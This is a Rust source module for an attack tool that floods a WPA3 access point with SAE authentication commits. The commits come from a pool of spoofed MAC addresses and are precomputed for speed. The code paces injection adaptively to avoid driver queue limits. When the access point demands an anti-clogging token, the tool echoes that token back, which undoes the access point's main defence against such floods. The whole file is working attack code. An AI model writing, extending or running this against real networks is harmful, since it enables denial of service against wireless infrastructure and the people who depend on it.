//! WPA3 SAE commit flood.
//!
//! Commits are sent from a small pool of spoofed MACs whose scalar and
//! element are computed once at start. The send loop only builds frames
//! from that cache. When the AP answers a commit with status 76 the flood
//! pins itself to the MAC the token was issued for and echoes the token
//! until the AP accepts a commit or the flood is stopped.

use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use libwifi::frame::components::MacAddress;
use libwifi::frame::{Frame, AUTH_ALGORITHM_SAE, STATUS_ANTI_CLOGGING_TOKEN_REQUIRED};
use libwifi::parse_frame;
use log::{debug, info, warn};
use rand::{thread_rng, Rng};
use strum_macros::Display;
use zeroize::Zeroizing;

use crate::config::EngineConfig;
use crate::crypto::{CryptoError, PweRequest, SaeCommitMaterial, SaeCrypto};
use crate::devices::AccessPoint;
use crate::error::EngineError;
use crate::interface::{
    Collaborators, DriverError, FrameCallback, RadioInterface, RxFrame, SecondaryChannel,
};
use crate::rx::{ReceivePath, RxOwner};
use crate::task::{CancelToken, Worker};
use crate::tx::{build_sae_commit_frame, FrameInjector, TxOutcome};
use crate::util::sanitize_password;

/// NIST P-256.
pub const SAE_GROUP_P256: u16 = 19;

/// Longest anti-clogging token we echo back.
pub const MAX_TOKEN_LEN: usize = 32;

/// The frame counter wraps here.
pub const FRAME_COUNTER_WRAP: u32 = 65536;

/// Pinned MACs outside the pool whose commits are kept around.
const SIDE_CACHE_SIZE: usize = 4;

const MIN_SCALE_PERCENT: u32 = 10;
const MAX_SCALE_PERCENT: u32 = 100;
const SCALE_STEP_PERCENT: u32 = 10;
const SUCCESS_STREAK: u32 = 10;
const INITIAL_BACKOFF_MS: u64 = 50;
const MAX_BACKOFF_MS: u64 = 1000;
const MAX_RATE: u32 = 200;
const MIN_FRAME_DELAY_MS: u64 = 2;
const JITTER_PERCENT: i32 = 10;
const ERROR_PAUSE: Duration = Duration::from_millis(20);
const RATE_LIMITED_PAUSE: Duration = Duration::from_millis(5);

#[derive(Clone, Copy, Debug, PartialEq, Eq, Display)]
pub enum SaeState {
    Idle,
    Precomputing,
    Flooding,
}

/// Pool slot used for frame `index` when no token is pinned.
pub fn mac_for_frame(index: u32, pool_size: usize, frames_per_mac: usize) -> usize {
    if pool_size == 0 {
        return 0;
    }
    (index as usize / frames_per_mac.max(1)) % pool_size
}

#[derive(Debug, Default)]
pub struct SaeCounters {
    frames: AtomicU64,
    hits: AtomicU64,
    misses: AtomicU64,
    pwe_failures: AtomicU64,
    token_rx: AtomicU64,
    tx_ok: AtomicU64,
    tx_err: AtomicU64,
    status76: AtomicU64,
    status0: AtomicU64,
    skipped: AtomicU64,
}

fn bump(counter: &AtomicU64) {
    counter.fetch_add(1, Ordering::Relaxed);
}

impl SaeCounters {
    pub fn snapshot(&self) -> SaeStats {
        let load = |counter: &AtomicU64| counter.load(Ordering::Relaxed);
        SaeStats {
            frames: load(&self.frames),
            hits: load(&self.hits),
            misses: load(&self.misses),
            pwe_failures: load(&self.pwe_failures),
            token_rx: load(&self.token_rx),
            tx_ok: load(&self.tx_ok),
            tx_err: load(&self.tx_err),
            status76: load(&self.status76),
            status0: load(&self.status0),
            skipped: load(&self.skipped),
        }
    }
}

/// Point in time copy of the flood counters.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct SaeStats {
    pub frames: u64,
    /// Frames built from a cached commit.
    pub hits: u64,
    /// Commits derived on demand for a pinned MAC outside the pool.
    pub misses: u64,
    pub pwe_failures: u64,
    pub token_rx: u64,
    pub tx_ok: u64,
    pub tx_err: u64,
    pub status76: u64,
    pub status0: u64,
    /// Frame slots skipped because their MAC has no commit.
    pub skipped: u64,
}

/// Send rate controller.
///
/// Queue-full errors double a backoff (50 ms up to 1 s) and shrink the rate
/// scale by a fifth, never below 10%. Every tenth consecutive success grows
/// it back by 10 points.
#[derive(Clone, Debug)]
pub struct AdaptiveRate {
    base_rate: u32,
    scale_percent: u32,
    backoff_ms: u64,
    success_streak: u32,
}

impl AdaptiveRate {
    pub fn new(base_rate: u32) -> Self {
        AdaptiveRate {
            base_rate,
            scale_percent: MAX_SCALE_PERCENT,
            backoff_ms: 0,
            success_streak: 0,
        }
    }

    pub fn on_queue_full(&mut self) {
        self.success_streak = 0;
        self.backoff_ms = if self.backoff_ms == 0 {
            INITIAL_BACKOFF_MS
        } else {
            (self.backoff_ms * 2).min(MAX_BACKOFF_MS)
        };
        self.scale_percent = (self.scale_percent * 4 / 5).max(MIN_SCALE_PERCENT);
    }

    pub fn on_success(&mut self) {
        self.backoff_ms /= 2;
        self.success_streak += 1;
        if self.success_streak >= SUCCESS_STREAK {
            self.success_streak = 0;
            self.scale_percent = (self.scale_percent + SCALE_STEP_PERCENT).min(MAX_SCALE_PERCENT);
        }
    }

    pub fn scale_percent(&self) -> u32 {
        self.scale_percent
    }

    pub fn backoff(&self) -> Duration {
        Duration::from_millis(self.backoff_ms)
    }

    /// Delay before the next frame for a given jitter in percent.
    pub fn delay_with_jitter(&self, jitter_percent: i32) -> Duration {
        let scaled = i64::from(self.base_rate) * i64::from(self.scale_percent) / 100;
        let jittered = scaled * i64::from(100 + jitter_percent) / 100;
        let rate = jittered.clamp(1, i64::from(MAX_RATE)) as u64;
        let delay_ms = (1000 / rate).max(MIN_FRAME_DELAY_MS).max(self.backoff_ms);
        Duration::from_millis(delay_ms)
    }

    pub fn next_delay(&self) -> Duration {
        let jitter = thread_rng().gen_range(-JITTER_PERCENT..=JITTER_PERCENT);
        self.delay_with_jitter(jitter)
    }
}

/// Cached commit for one spoofed MAC.
struct CommitSlot {
    mac: MacAddress,
    sequence: u16,
    material: Option<SaeCommitMaterial>,
}

impl CommitSlot {
    fn new(mac: MacAddress, material: Option<SaeCommitMaterial>) -> Self {
        CommitSlot {
            mac,
            sequence: thread_rng().gen_range(0..0x1000),
            material,
        }
    }

    fn next_sequence(&mut self) -> u16 {
        self.sequence = (self.sequence + 1) & 0x0FFF;
        self.sequence
    }
}

/// Anti-clogging token and the MAC it was issued to.
struct TokenPin {
    mac: MacAddress,
    token: Zeroizing<Vec<u8>>,
}

/// State the receive callback shares with the send loop.
struct SaeShared {
    bssid: MacAddress,
    counters: Arc<SaeCounters>,
    pin: Mutex<Option<TokenPin>>,
}

impl SaeShared {
    fn pinned(&self) -> Option<(MacAddress, Zeroizing<Vec<u8>>)> {
        self.pin
            .lock()
            .ok()?
            .as_ref()
            .map(|pin| (pin.mac, pin.token.clone()))
    }

    fn clear_pin(&self) {
        if let Ok(mut pin) = self.pin.lock() {
            *pin = None;
        }
    }

    /// Watch for the target's answers to our commits.
    fn on_frame(&self, rx: &RxFrame) {
        let Ok(Frame::Authentication(auth)) = parse_frame(&rx.payload, false) else {
            return;
        };
        if auth.header.address_2 != self.bssid
            || auth.auth_algorithm != AUTH_ALGORITHM_SAE
            || auth.auth_seq != 1
        {
            return;
        }
        let Some(commit) = auth.sae_commit else {
            return;
        };
        if commit.group_id != SAE_GROUP_P256 {
            return;
        }

        match auth.status_code {
            STATUS_ANTI_CLOGGING_TOKEN_REQUIRED => {
                let token = commit.anti_clogging_token.unwrap_or_default();
                if token.is_empty() {
                    return;
                }
                let token = Zeroizing::new(token[..token.len().min(MAX_TOKEN_LEN)].to_vec());
                let mac = auth.header.address_1;
                info!(
                    "SAE anti-clogging token for {mac}: {}",
                    hex::encode(token.as_slice())
                );
                if let Ok(mut pin) = self.pin.lock() {
                    *pin = Some(TokenPin { mac, token });
                }
                bump(&self.counters.token_rx);
                bump(&self.counters.status76);
            }
            0 => {
                debug!("SAE commit accepted for {}", auth.header.address_1);
                bump(&self.counters.status0);
                self.clear_pin();
            }
            _ => {}
        }
    }
}

/// The send loop. Owns every cached commit; they are wiped when it ends.
struct FloodLoop {
    shared: Arc<SaeShared>,
    injector: Arc<FrameInjector>,
    crypto: Arc<dyn SaeCrypto>,
    password: Zeroizing<String>,
    pool: Vec<CommitSlot>,
    side_cache: Vec<CommitSlot>,
    frames_per_mac: usize,
    rate: AdaptiveRate,
    frame_counter: u32,
}

impl FloodLoop {
    fn derive(&self, mac: MacAddress) -> Result<SaeCommitMaterial, CryptoError> {
        let pwe = self.crypto.derive_pwe(&PweRequest {
            password: &self.password,
            addr1: mac,
            addr2: self.shared.bssid,
        })?;
        self.crypto.commit(&pwe)
    }

    /// Slot for a pinned MAC, deriving a commit if it is not cached yet.
    fn pinned_slot(&mut self, mac: MacAddress) -> Option<&mut CommitSlot> {
        let counters = self.shared.counters.clone();

        if let Some(index) = self
            .pool
            .iter()
            .position(|slot| slot.mac == mac && slot.material.is_some())
        {
            bump(&counters.hits);
            return self.pool.get_mut(index);
        }
        if let Some(index) = self.side_cache.iter().position(|slot| slot.mac == mac) {
            bump(&counters.hits);
            return self.side_cache.get_mut(index);
        }

        bump(&counters.misses);
        match self.derive(mac) {
            Ok(material) => {
                if self.side_cache.len() >= SIDE_CACHE_SIZE {
                    self.side_cache.remove(0);
                }
                self.side_cache.push(CommitSlot::new(mac, Some(material)));
                self.side_cache.last_mut()
            }
            Err(e) => {
                warn!("SAE commit for pinned {mac} failed: {e}");
                bump(&counters.pwe_failures);
                None
            }
        }
    }

    fn build_next(&mut self) -> Option<Vec<u8>> {
        let bssid = self.shared.bssid;
        let counters = self.shared.counters.clone();

        let (slot, token) = match self.shared.pinned() {
            Some((mac, token)) => (self.pinned_slot(mac)?, Some(token)),
            None => {
                let index = mac_for_frame(self.frame_counter, self.pool.len(), self.frames_per_mac);
                let slot = self.pool.get_mut(index)?;
                if slot.material.is_none() {
                    bump(&counters.skipped);
                    return None;
                }
                bump(&counters.hits);
                (slot, None)
            }
        };

        let sequence = slot.next_sequence();
        let material = slot.material.as_ref()?;
        Some(build_sae_commit_frame(
            &bssid,
            &slot.mac,
            sequence,
            &material.scalar,
            &material.element,
            token.as_ref().map(|token| token.as_slice()),
        ))
    }

    fn advance(&mut self) {
        self.frame_counter = (self.frame_counter + 1) % FRAME_COUNTER_WRAP;
    }

    fn run(mut self, token: CancelToken) {
        let counters = self.shared.counters.clone();

        while !token.is_cancelled() {
            let Some(frame) = self.build_next() else {
                self.advance();
                if !token.sleep(self.rate.next_delay()) {
                    break;
                }
                continue;
            };

            match self.injector.transmit_on(RadioInterface::Station, &frame) {
                Ok(TxOutcome::Sent) => {
                    bump(&counters.frames);
                    bump(&counters.tx_ok);
                    self.rate.on_success();
                }
                Ok(TxOutcome::RateLimited) => {
                    if !token.sleep(RATE_LIMITED_PAUSE) {
                        break;
                    }
                    continue;
                }
                Err(DriverError::QueueFull) => {
                    bump(&counters.tx_err);
                    self.rate.on_queue_full();
                    warn!(
                        "SAE transmit queue full, backing off {}ms",
                        self.rate.backoff().as_millis()
                    );
                }
                Err(e) => {
                    bump(&counters.tx_err);
                    debug!("SAE commit injection failed: {e}");
                    if !token.sleep(ERROR_PAUSE) {
                        break;
                    }
                }
            }

            self.advance();
            if !token.sleep(self.rate.next_delay()) {
                break;
            }
        }
    }
}

struct SaeSession {
    shared: Arc<SaeShared>,
    target: AccessPoint,
    pool_macs: Vec<MacAddress>,
    flood: Worker,
    stats: Worker,
}

pub struct SaeFloodEngine {
    collaborators: Collaborators,
    injector: Arc<FrameInjector>,
    rx: Arc<ReceivePath>,
    crypto: Arc<dyn SaeCrypto>,
    config: EngineConfig,
    counters: Mutex<Arc<SaeCounters>>,
    state: Mutex<SaeState>,
    session: Mutex<Option<SaeSession>>,
}

impl SaeFloodEngine {
    pub fn new(
        collaborators: Collaborators,
        injector: Arc<FrameInjector>,
        rx: Arc<ReceivePath>,
        crypto: Arc<dyn SaeCrypto>,
        config: EngineConfig,
    ) -> Self {
        SaeFloodEngine {
            collaborators,
            injector,
            rx,
            crypto,
            config,
            counters: Mutex::new(Arc::new(SaeCounters::default())),
            state: Mutex::new(SaeState::Idle),
            session: Mutex::new(None),
        }
    }

    pub fn state(&self) -> SaeState {
        self.state
            .lock()
            .map(|state| *state)
            .unwrap_or(SaeState::Idle)
    }

    fn set_state(&self, next: SaeState) {
        if let Ok(mut state) = self.state.lock() {
            *state = next;
        }
    }

    pub fn stats(&self) -> SaeStats {
        self.counters
            .lock()
            .map(|counters| counters.snapshot())
            .unwrap_or_default()
    }

    /// MAC the flood is pinned to by an anti-clogging token.
    pub fn pinned_mac(&self) -> Option<MacAddress> {
        let session = self.session.lock().ok()?;
        session.as_ref()?.shared.pinned().map(|(mac, _)| mac)
    }

    pub fn pool_macs(&self) -> Vec<MacAddress> {
        self.session
            .lock()
            .ok()
            .and_then(|session| session.as_ref().map(|s| s.pool_macs.clone()))
            .unwrap_or_default()
    }

    pub fn target(&self) -> Option<AccessPoint> {
        self.session
            .lock()
            .ok()
            .and_then(|session| session.as_ref().map(|s| s.target.clone()))
    }

    pub fn start_sae_flood(&self, target: &AccessPoint, password: &str) -> Result<(), EngineError> {
        let mut session = self
            .session
            .lock()
            .map_err(|_| EngineError::Busy("SAE flood"))?;
        if session.is_some() {
            info!("SAE flood attack already running");
            return Err(EngineError::Busy("SAE flood"));
        }

        if !target.auth_mode.supports_sae() {
            info!("AP auth mode: {} (WPA3 required)", target.auth_mode);
            return Err(EngineError::invalid_target(
                "Selected AP does not support WPA3/SAE authentication",
            ));
        }
        let password = Zeroizing::new(sanitize_password(password)?);

        let counters = Arc::new(SaeCounters::default());
        if let Ok(mut current) = self.counters.lock() {
            *current = counters.clone();
        }
        self.set_state(SaeState::Precomputing);

        let pool = match self.precompute(target, &password, &counters) {
            Ok(pool) => pool,
            Err(e) => {
                self.set_state(SaeState::Idle);
                return Err(e);
            }
        };
        let pool_macs: Vec<MacAddress> = pool.iter().map(|slot| slot.mac).collect();

        let shared = Arc::new(SaeShared {
            bssid: target.bssid,
            counters: counters.clone(),
            pin: Mutex::new(None),
        });

        let started = self
            .collaborators
            .radio
            .set_channel(target.channel, SecondaryChannel::None)
            .and_then(|_| {
                let rx_shared = shared.clone();
                let callback: FrameCallback = Arc::new(move |frame: &RxFrame| rx_shared.on_frame(frame));
                self.rx.claim(RxOwner::Sae, callback)
            });
        if let Err(e) = started {
            self.set_state(SaeState::Idle);
            return Err(e.into());
        }

        let flood = FloodLoop {
            shared: shared.clone(),
            injector: self.injector.clone(),
            crypto: self.crypto.clone(),
            password,
            pool,
            side_cache: Vec::new(),
            frames_per_mac: self.config.sae_frames_per_mac,
            rate: AdaptiveRate::new(self.config.sae_base_rate),
            frame_counter: 0,
        };
        let workers = Worker::spawn("sae-flood", move |token| flood.run(token)).and_then(|flood| {
            let stats_counters = counters.clone();
            let interval = self.config.sae_stats_interval;
            Worker::spawn("sae-stats", move |token| {
                report_stats(&stats_counters, interval, &token)
            })
            .map(|stats| (flood, stats))
        });
        let (flood, stats) = match workers {
            Ok(workers) => workers,
            Err(e) => {
                self.rx.release(RxOwner::Sae);
                self.set_state(SaeState::Idle);
                return Err(e);
            }
        };

        info!(
            "SAE flood attack started against {} ({}) on channel {}",
            target.display_ssid(),
            target.bssid,
            target.channel
        );
        self.collaborators
            .display
            .show_attack("SAE flood", target.display_ssid());

        *session = Some(SaeSession {
            shared,
            target: target.clone(),
            pool_macs,
            flood,
            stats,
        });
        self.set_state(SaeState::Flooding);
        Ok(())
    }

    /// Build the MAC pool and its commits. Fails only if no MAC got one.
    fn precompute(
        &self,
        target: &AccessPoint,
        password: &str,
        counters: &SaeCounters,
    ) -> Result<Vec<CommitSlot>, EngineError> {
        let base = self.collaborators.radio.mac_address(RadioInterface::Station)?;
        let mut last_error = CryptoError::PweNotFound(crate::crypto::PWE_MAX_ITERATIONS);

        let pool: Vec<CommitSlot> = (0..self.config.sae_pool_size)
            .map(|_| {
                let mac = MacAddress::locally_administered_from(&base);
                let material = self
                    .crypto
                    .derive_pwe(&PweRequest {
                        password,
                        addr1: mac,
                        addr2: target.bssid,
                    })
                    .and_then(|pwe| self.crypto.commit(&pwe));
                match material {
                    Ok(material) => CommitSlot::new(mac, Some(material)),
                    Err(e) => {
                        debug!("SAE precompute for {mac} failed: {e}");
                        bump(&counters.pwe_failures);
                        last_error = e;
                        CommitSlot::new(mac, None)
                    }
                }
            })
            .collect();

        let ready = pool.iter().filter(|slot| slot.material.is_some()).count();
        info!("SAE precomputed {ready}/{} commits", pool.len());
        if ready == 0 {
            return Err(last_error.into());
        }
        Ok(pool)
    }

    /// Returns whether a flood was running.
    pub fn stop_sae_flood(&self) -> bool {
        let session = self.session.lock().ok().and_then(|mut session| session.take());
        let Some(session) = session else {
            return false;
        };

        session.flood.stop(self.config.stop_grace);
        session.stats.stop(self.config.stop_grace);
        self.rx.release(RxOwner::Sae);
        session.shared.clear_pin();

        self.set_state(SaeState::Idle);
        info!(
            "SAE flood attack stopped. Total frames sent: {}",
            self.stats().frames
        );
        self.collaborators.display.show_status("SAE stopped");
        true
    }
}

impl Drop for SaeFloodEngine {
    fn drop(&mut self) {
        self.stop_sae_flood();
    }
}

fn report_stats(counters: &SaeCounters, interval: Duration, token: &CancelToken) {
    let mut last_frames = 0u64;
    while token.sleep(interval) {
        let stats = counters.snapshot();
        let rate = (stats.frames - last_frames) / interval.as_secs().max(1);
        last_frames = stats.frames;
        info!(
            "SAE: {rate}/sec | {} total | hits:{} miss:{} pwefail:{} tok:{} txok:{} txerr:{} s76:{} s0:{}",
            stats.frames,
            stats.hits,
            stats.misses,
            stats.pwe_failures,
            stats.token_rx,
            stats.tx_ok,
            stats.tx_err,
            stats.status76,
            stats.status0
        );
    }
}
